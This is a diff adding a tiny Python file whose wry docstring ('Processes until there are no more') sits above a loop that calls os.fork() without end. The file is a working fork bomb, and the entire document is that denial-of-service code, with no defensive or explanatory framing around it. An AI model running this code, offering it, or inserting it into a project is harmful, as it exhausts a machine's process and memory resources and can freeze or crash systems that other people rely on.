@@ -1,0 +1,4 @@
+"""Processes until there are no more."""
+import os
+while True:
+    os.fork()
